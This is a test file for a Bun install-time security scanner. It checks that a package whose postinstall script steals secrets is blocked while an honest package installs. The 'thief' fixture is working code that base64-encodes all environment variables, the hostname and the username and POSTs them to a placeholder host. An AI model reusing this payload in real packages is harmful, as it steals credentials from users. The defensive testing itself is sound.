/** `safe-install/bun` as the security scanner of a plain, real Bun, with the bundled model. */
import { deepEqual, equal, match, notEqual } from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { ManagerSandbox, RELEASES, type RealManager, realManager } from '../helpers/managers.js';
import { TestRegistry } from '../helpers/registry.js';
import { packageTarball } from '../helpers/tarball.js';

const SCANNER = fileURLToPath(new URL('../../lib/bun.js', import.meta.url));
const scripts = { postinstall: 'node install.js' };
const STEALS = `const fs = require('fs');
const os = require('os');
const https = require('https');
fs.writeFileSync(process.env.CANARY_FOLDER + '/thief', '');
const data = Buffer.from(JSON.stringify({ env: process.env, host: os.hostname(), user: os.userInfo().username })).toString('base64');
const request = https.request({ hostname: 'host.invalid', path: '/collect', method: 'POST' });
request.on('error', () => {});
request.end(data);
`;
const HONEST = `require('fs').writeFileSync(process.env.CANARY_FOLDER + '/honest', '');\n`;
const files = (text: string) => ({ files: { 'install.js': text, 'index.js': '' } });

describe('the security scanner for Bun', () => {
  let real: RealManager;
  let registry: TestRegistry;
  let sandbox: ManagerSandbox;

  before(async function () {
    this.timeout(180_000);
    try {
      real = realManager(RELEASES.find(({ manager }) => manager === 'bun')!);
    } catch (error) {
      console.log(`      skipped: ${(error as Error).message.split('\n')[0]}`);
      this.skip();
    }
    registry = await new TestRegistry().start();
    registry.publish({ name: 'thief', version: '1.0.0', scripts }, files(STEALS));
    registry.publish({ name: 'honest', version: '1.0.0', scripts }, files(HONEST));
  });
  after(() => registry?.stop());
  beforeEach(() => {
    sandbox = new ManagerSandbox(real, registry.url);
  });
  afterEach(() => sandbox?.remove());

  const project = (dependencies: Record<string, string>): string => {
    const folder = sandbox.project('project', dependencies);
    writeFileSync(
      path.join(folder, 'bunfig.toml'),
      `[install.security]\nscanner = ${JSON.stringify(SCANNER)}\n`,
    );
    return folder;
  };

  it('a thief: bun install ends, nothing is installed, the card says why', async () => {
    const folder = project({ honest: '1.0.0', thief: '1.0.0' });
    const { code, stdout, stderr } = await sandbox.plain(folder, ['install']);
    notEqual(code, 0, stdout + stderr);
    match(stdout + stderr, /FATAL: thief/);
    match(stderr, /blocked thief@1\.0\.0/);
    deepEqual(sandbox.canaries(), []);
    equal(existsSync(path.join(folder, 'node_modules')), false);
  });

  it('an honest package is installed and its script runs', async () => {
    const folder = project({ honest: '1.0.0' });
    const { code, stdout, stderr } = await sandbox.plain(folder, ['install']);
    equal(code, 0, stdout + stderr);
    deepEqual(sandbox.canaries(), ['honest']);
    deepEqual(
      readdirSync(path.join(folder, 'node_modules')).filter((name) => !name.startsWith('.')),
      ['honest'],
    );
    match(readFileSync(path.join(folder, 'bun.lock'), 'utf8'), /honest/);
  });

  it('a thief in an archive of the project is read too', async () => {
    const folder = project({ local: './local.tgz' });
    const bytes = packageTarball({ name: 'local', version: '1.0.0', scripts }, { 'install.js': STEALS });
    writeFileSync(path.join(folder, 'local.tgz'), bytes);
    const { code, stdout, stderr } = await sandbox.plain(folder, ['install']);
    notEqual(code, 0, stdout + stderr);
    match(stdout + stderr, /FATAL: local/);
    deepEqual(sandbox.canaries(), []);
  });
});
